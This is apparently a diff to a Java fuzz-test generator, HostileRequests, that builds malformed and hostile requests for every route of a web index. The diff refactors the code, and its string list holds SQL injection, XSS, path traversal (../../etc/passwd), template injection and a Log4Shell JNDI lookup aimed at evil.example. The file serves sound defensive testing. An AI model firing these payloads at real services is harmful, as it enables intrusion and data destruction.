@@ -8,82 +8,38 @@ import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import java.util.Random;
+import java.util.function.IntFunction;
 import java.util.stream.Collectors;
 import java.util.stream.IntStream;
 
 /** Generates hostile requests for every route of the index; the same seed gives the same ones, but for names and ids. */
 public final class HostileRequests {
-    private static final List<String> TEXTS = List.of(
-            "",
-            " ",
-            "0",
-            "-1",
-            "1",
-            "1.5",
-            "1e400",
-            "-0",
-            "9999999999999999999999999999",
-            "2147483648",
-            "true",
-            "yes",
-            "null",
-            "NaN",
-            "' or '1'='1",
-            "'; drop table events; --",
-            "\") or 1=1 --",
-            "<script>alert(1)</script>",
-            "<img src=x onerror=alert(1)>",
-            "<a href=\"javascript:alert(1)\">x</a>",
-            "<svg/onload=alert(1)>",
-            "&lt;script&gt;alert(1)&lt;/script&gt;",
-            "<iframe src=//evil.example></iframe>",
-            "<p style=\"background:url(javascript:alert(1))\">x",
-            "${jndi:ldap://evil.example/a}",
-            "{{7*7}}",
-            "%",
-            "_%\\",
-            "a\u0000b",
-            "\u202e\u0007\ufeff",
-            "😀𝕏",
-            "é\u0301\u0301\u0301",
-            "../../etc/passwd",
-            "2031-02-30",
-            "0000-00-00 00:00:00",
-            "99999-01-01",
-            "+999999999999 years",
-            "next next friday",
-            "@-99999999999999",
-            "UTC+99",
-            "http://127.0.0.1/",
-            "http://[::1",
-            "https://example.org/" + "long/".repeat(60),
-            "publish",
-            "trash",
-            "id",
-            "a,b,,c",
-            "1,2,3",
-            "\"unclosed",
-            "-- -a -\"b\"");
+    /** Apart by bars; the first is empty, and the second a space. */
+    private static final List<String> TEXTS =
+            List.of("""
+            ¦ ¦0¦-1¦1¦1.5¦1e400¦-0¦9999999999999999999999999999¦2147483648¦true¦yes¦null¦NaN¦\
+            ' or '1'='1¦'; drop table events; --¦") or 1=1 --¦<script>alert(1)</script>¦<img src=x onerror=alert(1)>¦\
+            <a href="javascript:alert(1)">x</a>¦<svg/onload=alert(1)>¦&lt;script&gt;alert(1)&lt;/script&gt;¦\
+            <iframe src=//evil.example></iframe>¦<p style="background:url(javascript:alert(1))">x¦\
+            ${jndi:ldap://evil.example/a}¦{{7*7}}¦%¦_%\\¦a\u0000b¦\u202e\u0007\ufeff¦😀𝕏¦é\u0301\u0301\u0301¦\
+            ../../etc/passwd¦2031-02-30¦0000-00-00 00:00:00¦99999-01-01¦+999999999999 years¦next next friday¦\
+            @-99999999999999¦UTC+99¦http://127.0.0.1/¦http://[::1¦https://example.org/LONG¦publish¦trash¦id¦\
+            a,b,,c¦1,2,3¦"unclosed¦-- -a -"b\"""".replace("LONG", "long/".repeat(60)).split("¦"));
 
     /** The depth at which values have no parts. */
     private static final int DEEPEST = 3;
 
     /** Fields that take any text. */
-    private static final List<String> TEXT_FIELDS = List.of(
-            "description",
-            "excerpt",
-            "slug",
-            "cost",
-            "address",
-            "city",
-            "country",
-            "state",
-            "province",
-            "alt_text",
-            "tags");
+    private static final List<String> TEXT_FIELDS =
+            List.of("description excerpt slug cost address city country state province alt_text tags".split(" "));
 
     /** An account, which none of those who ask may change, where a route isn't about records. */
     private static final Target ADMINISTRATOR = new Target("1", "");
+
+    private static final List<String> NAMES = List.of("id", "venue", "organizer", "name", "x", "");
+    private static final String FORM = "application/x-www-form-urlencoded";
+    private static final List<String> TYPES = List.of(
+            "text/xml,image/png,multipart/form-data,multipart/form-data; boundary=b,application/x,a/b+json".split(","));
 
     private final Random random;
     private final List<Endpoint> endpoints;
@@ -152,14 +108,12 @@ public final class HostileRequests {
         if (!hasBody) {
             return new Request(endpoint.method(), full, null, null, account, headers());
         }
+        String json = "application/json";
         return switch (random.nextInt(8)) {
-            case 0 ->
-                new Request(endpoint.method(), full, form(), bytes(formBody(endpoint.args())), account, headers());
-            case 1 -> new Request(endpoint.method(), full, "application/json", broken(), account, headers());
-            case 2 -> new Request(endpoint.method(), full, one(types()), broken(), account, headers());
-            default ->
-                new Request(
-                        endpoint.method(), full, "application/json", bytes(json(endpoint.args())), account, headers());
+            case 0 -> new Request(endpoint.method(), full, FORM, bytes(formBody(endpoint.args())), account, headers());
+            case 1 -> new Request(endpoint.method(), full, json, broken(), account, headers());
+            case 2 -> new Request(endpoint.method(), full, one(TYPES), broken(), account, headers());
+            default -> new Request(endpoint.method(), full, json, bytes(json(endpoint.args())), account, headers());
         };
     }
 
@@ -177,20 +131,6 @@ public final class HostileRequests {
     private String slug(Target target) {
         String strange = one(TEXTS).replaceAll("[\u0000/\\\\]", "x") + "-" + word;
         return random.nextInt(4) > 0 ? encoded(strange) : target.slug();
-    }
-
-    private static String form() {
-        return "application/x-www-form-urlencoded";
-    }
-
-    private static List<String> types() {
-        return List.of(
-                "text/xml",
-                "image/png",
-                "multipart/form-data",
-                "multipart/form-data; boundary=b",
-                "application/x",
-                "a/b+json");
     }
 
     private List<String> headers() {
@@ -258,22 +198,15 @@ public final class HostileRequests {
             case 2 -> one(List.of("0", "-1", "1.5", "1e400", "-1e-400", "123456789012345678901234567890", "7"));
             case 3, 4, 5 -> quoted(one(TEXTS));
             case 6 -> one(List.of("\"\\ud800\"", "\"\\u0000\"", "\"\\udc00\\ud800\"", quoted("x".repeat(20_000))));
-            case 7, 8 ->
-                "["
-                        + IntStream.range(0, random.nextInt(4))
-                                .mapToObj(i -> value(depth + 1))
-                                .collect(Collectors.joining(","))
-                        + "]";
+            case 7, 8 -> "[" + some(i -> value(depth + 1)) + "]";
             case 9 -> "[" + ids(10_000) + "]";
             case 10 -> "[".repeat(2_000) + "]".repeat(2_000);
-            default ->
-                "{"
-                        + IntStream.range(0, random.nextInt(4))
-                                .mapToObj(i -> quoted(one(List.of("id", "venue", "organizer", "name", "x", ""))) + ":"
-                                        + value(depth + 1))
-                                .collect(Collectors.joining(","))
-                        + "}";
+            default -> "{" + some(i -> quoted(one(NAMES)) + ":" + value(depth + 1)) + "}";
         };
+    }
+
+    private String some(IntFunction<String> values) {
+        return IntStream.range(0, random.nextInt(4)).mapToObj(values).collect(Collectors.joining(","));
     }
 
     private byte[] broken() {
